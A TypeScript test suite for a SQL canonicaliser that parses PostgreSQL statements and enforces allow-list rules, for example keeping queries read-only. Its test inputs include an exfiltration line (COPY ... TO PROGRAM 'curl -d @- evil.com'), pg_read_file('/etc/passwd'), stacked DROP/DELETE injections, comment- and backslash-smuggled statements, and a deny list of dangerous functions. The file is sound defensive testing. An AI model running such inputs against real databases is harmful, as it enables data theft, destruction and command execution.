import assert from 'node:assert/strict';
import { before, describe, test } from 'node:test';
import fc from 'fast-check';
import type { Json } from '../types.js';
import { sqlCanonicaliser as c, initSql, parseName, parseOperator, type SqlFacts } from './sql.js';
import { SAFE_FUNCTIONS } from './sql-catalog.js';
import { harness } from './testing.js';

before(async () => {
  await initSql();
});

const { cond, facts, refused, allowed, why } = harness(c);

const readCustomers = { statements: ['select'], tables: ['customers'] };

describe('sql facts', () => {
  test('a plain select', () => {
    assert.deepEqual(c.toJson(facts('SELECT id, name FROM customers WHERE id = $1')), {
      statements: ['select'],
      reads: ['customers'],
      writes: [],
      tables: ['customers'],
      count: 1,
      selectInto: false,
      modifyingCte: false,
      functions: [],
      types: [],
      operators: ['='],
    });
  });

  test('stacked statements are counted and each kind reported', () => {
    const f = facts('SELECT * FROM customers; DELETE FROM customers');
    assert.equal(f.count, 2);
    assert.deepEqual(f.statements, ['delete', 'select']);
    assert.deepEqual(f.writes, ['customers']);
  });

  test('comments are stripped by the parser and cannot hide a statement', () => {
    assert.equal(facts('SELECT 1; -- DROP TABLE customers').count, 1);
    assert.equal(facts('SELECT 1 /* ; DROP TABLE customers */').count, 1);
    const f = facts('SELECT 1 /* x */; DROP TABLE customers -- y');
    assert.equal(f.count, 2);
    assert.deepEqual(f.statements, ['drop', 'select']);
    assert.deepEqual(f.writes, ['customers']);
    assert.deepEqual(facts("SELECT '--' ; DELETE FROM t").statements, ['delete', 'select']);
  });

  test('a data-modifying CTE is a write and its kind is reported', () => {
    const f = facts('WITH gone AS (DELETE FROM customers RETURNING *) SELECT * FROM gone');
    assert.deepEqual(f.statements, ['delete', 'select']);
    assert.deepEqual(f.writes, ['customers']);
    assert.deepEqual(f.reads, []);
    assert.equal(f.modifyingCte, true);
  });

  test('CTE names are scoped: a same-named real table outside the scope is still a table', () => {
    const f = facts('SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) q, secrets');
    assert.deepEqual(f.reads, ['secrets']);
    assert.deepEqual(facts('WITH c AS (SELECT * FROM customers) SELECT * FROM c').reads, ['customers']);
    // A non-recursive CTE does not see itself: the inner `x` is the table.
    assert.deepEqual(facts('WITH x AS (SELECT * FROM x) SELECT * FROM x').reads, ['x']);
    assert.deepEqual(facts('WITH RECURSIVE r AS (SELECT 1 UNION SELECT * FROM r) SELECT * FROM r').reads, []);
    // A qualified name never refers to a CTE.
    assert.deepEqual(facts('WITH customers AS (SELECT 1) SELECT * FROM public.customers').reads, [
      'public.customers',
    ]);
  });

  test('SELECT INTO and CREATE TABLE AS are writes of kind create', () => {
    const f = facts('SELECT * INTO stolen FROM customers');
    assert.equal(f.selectInto, true);
    assert.deepEqual(f.statements, ['create', 'select']);
    assert.deepEqual(f.writes, ['stolen']);
    assert.deepEqual(f.reads, ['customers']);
    const g = facts('CREATE TABLE stolen AS SELECT * FROM customers');
    assert.deepEqual(g.statements, ['create']);
    assert.deepEqual(g.writes, ['stolen']);
  });

  test('COPY: TO reads, FROM writes, TO PROGRAM is kind copy', () => {
    const to = facts("COPY customers TO PROGRAM 'curl -d @- evil.com'");
    assert.deepEqual(to.statements, ['copy']);
    assert.deepEqual(to.reads, ['customers']);
    const from = facts("COPY customers FROM '/tmp/x'");
    assert.deepEqual(from.writes, ['customers']);
    assert.deepEqual(facts('COPY (DELETE FROM customers RETURNING *) TO STDOUT').writes, ['customers']);
  });

  test('EXPLAIN ANALYZE of a write counts as the write', () => {
    const f = facts('EXPLAIN ANALYZE DELETE FROM customers');
    assert.deepEqual(f.statements, ['delete', 'explain']);
    assert.deepEqual(f.writes, ['customers']);
    assert.deepEqual(facts('EXPLAIN SELECT * FROM customers').statements, ['explain', 'select']);
    assert.deepEqual(facts('PREPARE p AS DELETE FROM customers').statements, ['delete', 'prepare']);
  });

  test('UNION, joins and subqueries in WHERE all contribute reads', () => {
    assert.deepEqual(facts('SELECT a FROM customers UNION SELECT b FROM secrets').reads, [
      'customers',
      'secrets',
    ]);
    assert.deepEqual(facts('SELECT * FROM customers c JOIN orders o ON o.c = c.id').reads, [
      'customers',
      'orders',
    ]);
    assert.deepEqual(facts('SELECT * FROM customers WHERE id IN (SELECT id FROM secrets)').reads, [
      'customers',
      'secrets',
    ]);
    assert.deepEqual(facts('SELECT (SELECT max(x) FROM secrets) FROM customers').reads, [
      'customers',
      'secrets',
    ]);
    assert.deepEqual(
      facts('SELECT * FROM customers WHERE EXISTS (SELECT 1 FROM LATERAL (SELECT * FROM s2) z)').reads,
      ['customers', 's2'],
    );
  });

  test('DML: target written, FROM/USING/subqueries read', () => {
    const u = facts('UPDATE customers SET x = (SELECT y FROM rates) FROM regions WHERE true');
    assert.deepEqual(u.writes, ['customers']);
    assert.deepEqual(u.reads, ['rates', 'regions']);
    const i = facts('INSERT INTO audit SELECT * FROM customers');
    assert.deepEqual(i.statements, ['insert']);
    assert.deepEqual(i.writes, ['audit']);
    assert.deepEqual(i.reads, ['customers']);
    const m = facts('MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE');
    assert.deepEqual(m.statements, ['merge']);
    assert.deepEqual(m.writes, ['t']);
    assert.deepEqual(m.reads, ['s']);
  });

  test('DDL and other statements are writes of their kind', () => {
    assert.deepEqual(facts('DROP TABLE a, s.b').writes, ['a', 's.b']);
    assert.deepEqual(facts('TRUNCATE customers').statements, ['truncate']);
    assert.deepEqual(facts('ALTER TABLE customers ADD COLUMN x int').statements, ['alter']);
    assert.deepEqual(facts('GRANT SELECT ON customers TO public').statements, ['grant']);
    assert.deepEqual(facts('REVOKE SELECT ON customers FROM public').statements, ['revoke']);
    assert.deepEqual(facts('BEGIN').statements, ['begin']);
    assert.deepEqual(facts('SET search_path = evil').statements, ['set']);
    assert.deepEqual(facts('DO $$ BEGIN PERFORM 1; END $$').statements, ['do']);
    assert.deepEqual(facts('CREATE VIEW v AS SELECT * FROM customers').writes, ['v']);
    assert.deepEqual(facts('LOCK TABLE customers').writes, ['customers']);
  });

  test('schema-qualified names are kept; quoted identifiers keep their case', () => {
    assert.deepEqual(facts('SELECT * FROM CRM.Customers').reads, ['crm.customers']);
    assert.deepEqual(facts('SELECT * FROM "Customers"').reads, ['"Customers"']);
    assert.deepEqual(facts('SELECT * FROM "crm.customers"').reads, ['"crm.customers"']);
    assert.deepEqual(facts('SELECT * FROM db.crm.customers').reads, ['db.crm.customers']);
  });

  test('functions called are reported', () => {
    assert.deepEqual(facts("SELECT pg_read_file('/etc/passwd')").functions, ['pg_read_file']);
    assert.deepEqual(facts("SELECT * FROM dblink('h', 'select 1') AS t(x int)").functions, ['dblink']);
    assert.deepEqual(facts("SELECT lo_import('/etc/passwd'), pg_catalog.now()").functions, [
      'lo_import',
      'pg_catalog.now',
    ]);
    assert.deepEqual(facts('CALL app.refresh(1)').functions, ['app.refresh']);
  });

  test('text that does not parse, empty text and non-strings are errors', () => {
    refused('SELEC 1', /does not parse: syntax error at or near "SELEC" at position 0/);
    refused('SELECT * FROM', /does not parse/);
    refused('', /empty/);
    refused('   ', /empty/);
    refused(';', /holds no statement/);
    refused('-- only a comment', /holds no statement/);
    refused('SELECT 1\u0000; DROP TABLE x', /NUL/);
    refused(1, /must be a string, got a number/);
    refused(null, /got null/);
  });

  test('deep nesting is refused, not a crash', () => {
    refused(`SELECT ${'1+'.repeat(5000)}1 FROM t`, /nested too deeply/);
    refused(`SELECT ${'1+'.repeat(40000)}1 FROM t`, /does not parse/);
    refused(`SELECT ${'1+'.repeat(60000)}1 FROM t`, /longer than 100000/);
    refused(`${'SELECT * FROM ('.repeat(1000)}SELECT 1${') s'.repeat(1000)}`, /nested too deeply/);
    assert.deepEqual(facts(`${'SELECT * FROM ('.repeat(50)}SELECT * FROM secrets${') s'.repeat(50)}`).reads, [
      'secrets',
    ]);
  });
});

describe('sql conditions', () => {
  test('max_statements defaults to 1: stacked statements are refused', () => {
    assert.match(
      why(readCustomers, 'SELECT * FROM customers; SELECT * FROM customers'),
      /2 statements; at most 1/,
    );
    assert.ok(
      allowed({ ...readCustomers, max_statements: 2 }, 'SELECT * FROM customers; SELECT * FROM customers'),
    );
    assert.ok(allowed(readCustomers, 'SELECT * FROM customers; -- DROP TABLE customers'));
  });

  test('statements: every kind present must be listed', () => {
    assert.match(
      why(readCustomers, 'WITH x AS (DELETE FROM customers RETURNING *) SELECT * FROM x'),
      /kind delete not allowed/,
    );
    assert.match(why(readCustomers, 'SELECT * INTO copy FROM customers'), /kind create not allowed/);
    assert.match(
      why(readCustomers, 'EXPLAIN ANALYZE DELETE FROM customers'),
      /kind delete, explain not allowed/,
    );
    assert.match(why(readCustomers, "COPY customers TO PROGRAM 'sh'"), /kind copy not allowed/);
  });

  test('tables: every referenced table must be listed; unqualified entries cover public only', () => {
    assert.ok(allowed(readCustomers, 'SELECT * FROM customers'));
    assert.ok(allowed(readCustomers, 'SELECT * FROM public.customers'));
    assert.match(
      why(readCustomers, 'SELECT * FROM crm.customers'),
      /table crm\.customers not allowed; allowed: customers/,
    );
    assert.match(
      why(readCustomers, 'SELECT * FROM customers UNION SELECT * FROM secrets'),
      /table secrets not allowed/,
    );
    assert.match(
      why(readCustomers, 'SELECT * FROM customers WHERE id IN (SELECT id FROM secrets)'),
      /secrets/,
    );
    assert.equal(allowed(readCustomers, 'SELECT * FROM "Customers"'), false);
    assert.equal(allowed(readCustomers, 'SELECT * FROM db.public.customers'), false);
    const crm = { tables: ['crm.customers'] };
    assert.ok(allowed(crm, 'SELECT * FROM crm.customers'));
    assert.equal(allowed(crm, 'SELECT * FROM customers'), false);
    assert.equal(allowed(crm, 'SELECT * FROM "crm.customers"'), false);
    assert.ok(allowed({ tables: ['"Customers"'] }, 'SELECT * FROM "Customers"'));
    assert.ok(allowed({ tables: ['CUSTOMERS'] }, 'SELECT * FROM Customers'));
  });

  test('reads and writes are separate subsets', () => {
    const rw = { reads: ['customers'], writes: ['audit'] };
    assert.ok(allowed(rw, 'INSERT INTO audit SELECT * FROM customers'));
    assert.match(why(rw, 'INSERT INTO customers SELECT * FROM audit'), /read of table audit not allowed/);
    assert.match(
      why({ writes: [] }, 'UPDATE customers SET x = 1'),
      /write to table customers not allowed; allowed: none/,
    );
    assert.match(why({ writes: [] }, 'SELECT * INTO t FROM customers'), /write to table t/);
  });

  test('functions, when listed, are an allow-list', () => {
    const f = { functions: ['count', 'lower'] };
    assert.ok(allowed(f, 'SELECT count(*), lower(name) FROM customers'));
    assert.ok(allowed(f, 'SELECT pg_catalog.count(*) FROM customers'));
    assert.match(why(f, "SELECT pg_read_file('/etc/passwd')"), /function pg_read_file not allowed/);
  });

  test('match works on facts that were copied (e.g. through JSON)', () => {
    const copy = JSON.parse(JSON.stringify(facts('SELECT * FROM "Customers", crm.x'))) as SqlFacts;
    assert.ok(c.match(cond({ tables: ['"Customers"', 'crm.x'] }), copy).ok);
    assert.equal(c.match(cond({ tables: ['customers', 'crm.x'] }), copy).ok, false);
    // Functions, types and operators survive the copy too: still refused under a read-only rule.
    const ro = cond({ statements: ['select'] });
    for (const q of ["SELECT app.f('1'::d)", 'SELECT 1 OPERATOR(public.===) 1', "SELECT '1'::public.d"]) {
      const copied = JSON.parse(JSON.stringify(facts(q))) as SqlFacts;
      assert.equal(c.match(ro, copied).ok, false, q);
    }
    assert.ok(c.match(ro, JSON.parse(JSON.stringify(facts('SELECT lower(1::text) = $1')))).ok);
  });

  test('compile validates kinds, names and numbers', () => {
    const r = c.compile({
      statements: ['select;'],
      tables: ['a b', '"unterminated', 'a.b.c.d'],
      max_statements: 0,
      limit: 1,
    });
    assert.equal(r.ok, false);
    if (r.ok) return;
    assert.deepEqual(r.errors.map((e) => e.field).sort(), [
      'limit',
      'max_statements',
      'statements[0]',
      'tables[0]',
      'tables[1]',
      'tables[2]',
    ]);
    assert.deepEqual(parseName('"A""b".C'), { ok: true, value: { schema: 'A"b', name: 'c' } });
  });
});

describe('sql: read-only means read-only', () => {
  const readme = { statements: ['select'], tables: ['customers', 'tickets'] };

  test('a read-only rule without functions allows only the vetted built-ins, naming the refused one', () => {
    assert.ok(allowed(readme, 'SELECT count(*), lower(name), now() FROM customers'));
    assert.match(
      why(readme, 'SELECT touch_customer(1)'),
      /sql function touch_customer not allowed; allowed: the vetted built-in functions/,
    );
    assert.match(why(readme, "SELECT pg_read_file('/etc/passwd')"), /function pg_read_file not allowed/);
    assert.match(why(readme, "SELECT set_config('search_path', 'x', false)"), /set_config/);
    assert.match(why(readme, 'SELECT public.lower(name) FROM customers'), /function public\.lower/);
    assert.ok(allowed(readme, 'SELECT pg_catalog.lower(name) FROM customers'));
    // `show` and `explain` only read as well.
    assert.match(why({ statements: ['select', 'explain'] }, 'EXPLAIN SELECT pg_sleep(1)'), /pg_sleep/);
  });

  test('a rule that allows writes does not check functions unless told to', () => {
    const insert = { statements: ['insert'], tables: ['tickets'] };
    assert.ok(allowed(insert, "INSERT INTO tickets VALUES (nextval('s'))"));
    assert.match(
      why({ ...insert, functions: ['default'] }, "INSERT INTO tickets VALUES (nextval('s'))"),
      /function nextval not allowed/,
    );
  });

  test('functions: a list replaces the built-ins, `default` extends, `any` turns checks off', () => {
    assert.match(why({ ...readme, functions: ['count'] }, 'SELECT lower(name) FROM customers'), /lower/);
    assert.ok(allowed({ ...readme, functions: ['count'] }, 'SELECT count(*) FROM customers'));
    const ext = { ...readme, functions: ['default', 'app.f'] };
    assert.ok(allowed(ext, 'SELECT app.f(lower(name)) FROM customers'));
    assert.match(
      why(ext, 'SELECT f(1)'),
      /function f not allowed; allowed: the vetted built-in functions, app\.f/,
    );
    assert.ok(allowed({ ...readme, functions: ['"default"'] }, 'SELECT "default"(1)'));
    assert.equal(allowed({ ...readme, functions: ['"default"'] }, 'SELECT lower(1)'), false);
    assert.ok(allowed({ ...readme, functions: 'any' }, 'SELECT touch_customer(1), 1 === 2, 1::d'));
    assert.match(why({ ...readme, functions: [] }, 'SELECT count(*) FROM customers'), /function count/);
    const bad = c.compile({ functions: 'all' });
    assert.equal(bad.ok, false);
    if (!bad.ok) assert.match(bad.errors[0]?.message ?? '', /a list of names or `any`, got `all`/);
  });

  test('calls are found in every position', () => {
    const positions = [
      'SELECT * FROM f(1)',
      'SELECT * FROM t, LATERAL f(t.id) x',
      'SELECT * FROM ROWS FROM (generate_series(1, 2), f(1)) r',
      'SELECT * FROM (VALUES (f(1))) v',
      'SELECT * FROM t ORDER BY f(id)',
      'SELECT count(*) FILTER (WHERE f(id) > 0) FROM t',
      'SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY f(id)) FROM t',
      'SELECT sum(id) OVER (PARTITION BY f(id)) FROM t',
      'SELECT coalesce(NULL, f(1)), greatest(1, f(2))',
      'SELECT CAST(f(1) AS text)',
      'SELECT id FROM t TABLESAMPLE system (f(1))',
      'SELECT id FROM t LIMIT f(1)',
      'WITH x AS (SELECT f(1)) SELECT 1',
      'SELECT xmlelement(name x, f(1))',
      'SELECT 1 WHERE EXISTS (SELECT f(1))',
    ];
    for (const q of positions) assert.ok(facts(q).functions.includes('f'), q);
  });

  test('attribute notation: `x.f` counts as f(x) when f is an unvetted built-in', () => {
    assert.deepEqual(facts('SELECT c.pg_sleep, (c).nextval FROM customers c').functions, [
      'nextval',
      'pg_sleep',
    ]);
    assert.deepEqual(facts('SELECT s.customers.lo_import FROM customers').functions, ['lo_import']);
    // Columns named like vetted built-ins (`name`, `date`) and plain columns stay columns.
    assert.deepEqual(facts('SELECT c.name, c.date, c.email, c.* FROM customers c').functions, []);
    assert.match(why(readme, 'SELECT c.pg_sleep FROM customers c'), /function pg_sleep/);
  });

  test('casts and column definitions name types; only built-in types pass', () => {
    const f = facts("SELECT '1'::d, CAST(1 AS public.int4), 1::int, '{}'::text[] FROM x(1) AS y(a e)");
    assert.deepEqual(f.types, ['d', 'e', 'pg_catalog.int4', 'public.int4', 'text']);
    assert.match(why(readme, "SELECT '1'::guarded_int"), /sql type guarded_int not allowed/);
    assert.match(why(readme, "SELECT '1'::public.int4"), /type public\.int4/);
    assert.match(why(readme, 'SELECT json_populate_record(NULL::customers, $1)'), /type customers/);
    assert.ok(allowed(readme, "SELECT '1'::int, 'x'::regclass, '1 day'::interval, 1::numeric(10, 2)"));
    assert.ok(allowed({ ...readme, types: ['guarded_int'] }, "SELECT '1'::guarded_int"));
  });

  test('operators outside the built-in symbols are refused, qualified ones too', () => {
    assert.deepEqual(
      facts('SELECT a OPERATOR(public.===) b, a === b, a = ANY(b) ORDER BY a USING ~>~').operators,
      ['=', '===', 'public.===', '~>~'],
    );
    assert.match(why(readme, 'SELECT 1 === 1'), /sql operator === not allowed/);
    assert.match(why(readme, 'SELECT 1 OPERATOR(public.+) 1'), /operator public\.\+/);
    assert.ok(allowed(readme, 'SELECT 1 OPERATOR(pg_catalog.+) 1, 2 BETWEEN 1 AND 3, NOT (1 IN (2))'));
    assert.ok(allowed({ ...readme, operators: ['public.==='] }, 'SELECT 1 OPERATOR(public.===) 1'));
    assert.equal(allowed({ ...readme, operators: ['public.==='] }, 'SELECT 1 === 1'), false);
    assert.deepEqual(parseOperator('App.==='), { ok: true, value: { schema: 'app', name: '===' } });
    assert.equal(parseOperator('a b').ok, false);
  });

  test('TABLESAMPLE: system and bernoulli are built in, any other method is a function', () => {
    assert.deepEqual(
      facts('SELECT 1 FROM t TABLESAMPLE SYSTEM (1), u TABLESAMPLE bernoulli (1)').functions,
      [],
    );
    assert.match(why(readme, 'SELECT 1 FROM customers TABLESAMPLE system_rows (1)'), /function system_rows/);
  });

  test('row-locking clauses are kind `lock` and write every table under them', () => {
    for (const clause of [
      'FOR UPDATE',
      'FOR NO KEY UPDATE',
      'FOR SHARE',
      'FOR KEY SHARE',
      'FOR UPDATE OF c',
    ]) {
      const f = facts(`SELECT * FROM customers c JOIN tickets t ON true ${clause}`);
      assert.deepEqual(f.statements, ['lock', 'select'], clause);
      assert.deepEqual(f.writes, ['customers', 'tickets'], clause);
      assert.deepEqual(f.reads, [], clause);
    }
    const nested = facts('WITH l AS (SELECT * FROM tickets FOR SHARE) SELECT * FROM l, customers');
    assert.deepEqual(nested.writes, ['tickets']);
    assert.deepEqual(nested.reads, ['customers']);
    assert.match(why(readme, 'SELECT * FROM customers FOR UPDATE'), /statement kind lock not allowed/);
    // With `lock` listed the rule is no longer read-only, and `writes: []` still refuses the lock.
    assert.match(
      why({ statements: ['select', 'lock'], writes: [] }, 'SELECT * FROM t FOR SHARE'),
      /write to table t/,
    );
  });

  test('a rule allowing only reads refuses any write, whatever made it one', () => {
    const copy = JSON.parse(JSON.stringify(facts('SELECT * FROM customers'))) as SqlFacts;
    copy.writes = ['customers'];
    const r = c.match(cond(readme), copy);
    assert.equal(r.ok, false);
    if (!r.ok) assert.match(r.why, /sql writes customers; the rule allows only reads/);
  });

  test('configuration changes are `set` or `discard`, never select', () => {
    for (const q of [
      'SET search_path = x',
      'SET LOCAL search_path = x',
      'RESET search_path',
      'RESET ALL',
      'SET ROLE x',
      'SET SESSION AUTHORIZATION x',
    ]) {
      assert.deepEqual(facts(q).statements, ['set'], q);
    }
    assert.deepEqual(facts('DISCARD ALL').statements, ['discard']);
    assert.match(why(readme, "SELECT set_config('search_path', 'x', false)"), /set_config/);
  });

  test('a plain literal with a backslash is refused; E strings, dollar quotes, comments are not', () => {
    refused("SELECT 'a\\' -- '; DELETE FROM customers", /string literal `'a\\'` holds a backslash/);
    refused("SELECT N'\\'", /backslash/);
    refused("SELECT 'a'\n'\\'", /backslash/);
    assert.ok(facts("SELECT E'a\\'b', $$\\$$, $t$\\$t$ -- \\\n/* \\ */"));
    assert.ok(facts('SELECT "a\\b" FROM t'));
    assert.ok(facts("SELECT U&'\\0041'"));
  });

  test('a lone surrogate is refused', () => {
    refused("SELECT '\ud800'", /lone surrogate/);
    assert.ok(facts("SELECT '\ud83d\ude00'"));
  });

  test('warnings: functions: any, unchecked functions, no statements, set', () => {
    const codes = (x: unknown) => (c.warnings?.(cond(x)) ?? []).map((w) => w.code);
    assert.deepEqual(codes(readme), []);
    assert.deepEqual(codes({ ...readme, functions: 'any' }), ['sql_functions_any']);
    assert.deepEqual(codes({ statements: ['insert'] }), ['sql_functions_unchecked']);
    assert.deepEqual(codes({ statements: ['insert'], functions: ['default'] }), []);
    assert.deepEqual(codes({ tables: ['t'] }), ['sql_functions_unchecked', 'sql_statements_any']);
    assert.deepEqual(codes({ statements: ['select', 'set'], functions: ['default'] }), ['sql_set_allowed']);
  });

  test('the vetted list holds what reads need and none of the known side effects', () => {
    for (const f of ['count', 'lower', 'now', 'coalesce', 'extract', 'btrim', 'row_number', 'xpath']) {
      if (f !== 'coalesce') assert.ok(SAFE_FUNCTIONS.includes(f), f);
    }
    for (const f of [
      'set_config',
      'nextval',
      'setval',
      'pg_read_file',
      'pg_sleep',
      'lo_import',
      'query_to_xml',
      'table_to_xml',
      'ts_stat',
      'pg_advisory_lock',
      'pg_notify',
      'txid_current',
      'dblink',
    ]) {
      assert.equal(SAFE_FUNCTIONS.includes(f), false, f);
    }
  });
});

/**
 * Changes that never change what PostgreSQL reads: keyword case, whitespace and comments between
 * tokens, then a comment or `;` around the whole text (applied last, so no later change edits it).
 */
function mutations(): fc.Arbitrary<(sql: string) => string> {
  const space = fc.constantFrom(' ', '  ', '\n', '\t', ' /* x */ ', ' /* a /* nested */ b */ ', ' --c\n');
  const upper = fc.constant((s: string) =>
    s.replace(/\b(select|from|where|for|update|share|set)\b/gi, (w) => w.toUpperCase()),
  );
  const lower = fc.constant((s: string) =>
    s.replace(/\b(SELECT|FROM|WHERE|FOR|UPDATE|SHARE|SET)\b/g, (w) => w.toLowerCase()),
  );
  const spaced = space.map((sp) => (s: string) => s.replace(/ /g, sp));
  const wrap = fc.constantFrom(
    (s: string) => s,
    (s: string) => `/* lead */ ${s}`,
    (s: string) => `${s} -- trail`,
    (s: string) => `${s};`,
    (s: string) => `\n${s}\n`,
  );
  return fc.tuple(fc.array(fc.oneof(upper, lower, spaced), { minLength: 1, maxLength: 3 }), wrap).map(
    ([inner, w]) =>
      (sql: string) =>
        w(inner.reduce((t, f) => f(t), sql)),
  );
}

describe('sql properties', () => {
  test('facts never throws on arbitrary strings and JSON', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary' }), (s) => void c.facts(s)));
    fc.assert(fc.property(fc.jsonValue(), (v) => void c.facts(v as Json)));
    const tok = fc.constantFrom(
      'SELECT',
      '*',
      'FROM',
      'customers',
      ';',
      '--',
      '/*',
      '*/',
      'WITH',
      'x',
      'AS',
      '(',
      ')',
      'DELETE',
      "'",
      '$$',
      'INTO',
      'UNION',
    );
    fc.assert(fc.property(fc.array(tok, { maxLength: 20 }), (ts) => void c.facts(ts.join(' '))));
  });

  test('a write never hides from the facts: any generated DELETE target appears in writes', () => {
    const table = fc.constantFrom('customers', 'secrets', 'crm.customers');
    const wrap = fc.constantFrom(
      (d: string) => d,
      (d: string) => `WITH x AS (${d} RETURNING *) SELECT * FROM x`,
      (d: string) => `EXPLAIN ANALYZE ${d}`,
      (d: string) => `SELECT 1; ${d}`,
      (d: string) => `PREPARE p AS ${d}`,
      (d: string) => `COPY (${d} RETURNING *) TO STDOUT`,
    );
    fc.assert(
      fc.property(table, wrap, (t, w) => {
        const f = facts(w(`DELETE FROM ${t}`));
        assert.ok(f.writes.includes(t), `${w(`DELETE FROM ${t}`)} -> ${f.writes}`);
        assert.ok(f.statements.includes('delete'));
        assert.equal(c.match(cond(readCustomers), f).ok, false);
      }),
    );
  });
});

describe('sql: denied inputs stay denied under mutation', () => {
  const readme = { statements: ['select'], tables: ['customers', 'tickets'] };
  const denied = [
    'SELECT touch_customer(1)',
    'SELECT * FROM customers WHERE touch_customer(id) > 0',
    "SELECT set_config('search_path', 'secret', false)",
    "SELECT pg_read_file('/etc/passwd')",
    'SELECT * FROM customers FOR UPDATE',
    'SELECT * FROM customers FOR SHARE',
    'SET search_path = secret',
    'SELECT * FROM secrets',
    'DELETE FROM customers',
    'SELECT 1; DELETE FROM customers',
    'SELECT c.pg_sleep FROM customers c',
    "SELECT '1'::guarded_int",
    'SELECT 1 === 1',
    "SELECT 'a\\' -- '; DELETE FROM customers",
  ];

  test('every mutation of a denied statement is denied (or does not parse)', () => {
    const k = cond(readme);
    fc.assert(
      fc.property(fc.constantFrom(...denied), mutations(), (q, ms) => {
        const m = ms(q);
        const r = c.facts(m);
        if (!r.ok) return; // refused outright: denied
        assert.equal(
          c.match(k, r.value).ok,
          false,
          `${JSON.stringify(m)} (from ${JSON.stringify(q)}) was allowed`,
        );
      }),
      { numRuns: 500 },
    );
  });

  test('the same mutations keep allowed reads allowed (the property is not vacuous)', () => {
    const k = cond(readme);
    fc.assert(
      fc.property(
        fc.constantFrom('SELECT * FROM customers', 'SELECT count(*) FROM tickets WHERE status = $1'),
        mutations(),
        (q, ms) => {
          const m = ms(q);
          assert.ok(c.match(k, facts(m)).ok, JSON.stringify(m));
        },
      ),
      { numRuns: 200 },
    );
  });

  test('a volatile call anywhere in a generated read is denied', () => {
    const k = cond(readme);
    const slot = fc.constantFrom(
      (f: string) => `SELECT ${f} FROM customers`,
      (f: string) => `SELECT * FROM customers WHERE id = ${f}`,
      (f: string) => `SELECT * FROM customers ORDER BY ${f}`,
      (f: string) => `SELECT * FROM ${f}`,
      (f: string) => `SELECT * FROM customers, LATERAL (SELECT ${f}) x`,
      (f: string) => `WITH x AS (SELECT ${f}) SELECT * FROM x`,
      (f: string) => `SELECT CAST(${f} AS text)`,
      (f: string) => `SELECT coalesce(${f}, 0)`,
    );
    const call = fc.constantFrom(
      'touch_customer(1)',
      'TOUCH_CUSTOMER(1)',
      '"touch_customer"(1)',
      'public.touch_customer(1)',
      'touch_customer /* */ (1)',
      "pg_catalog.set_config('a', 'b', false)",
      "nextval('s')",
    );
    fc.assert(
      fc.property(slot, call, (s, f) => {
        const r = c.match(k, facts(s(f)));
        assert.equal(r.ok, false, s(f));
        if (!r.ok) assert.match(r.why, /touch_customer|set_config|nextval/);
      }),
    );
  });
});
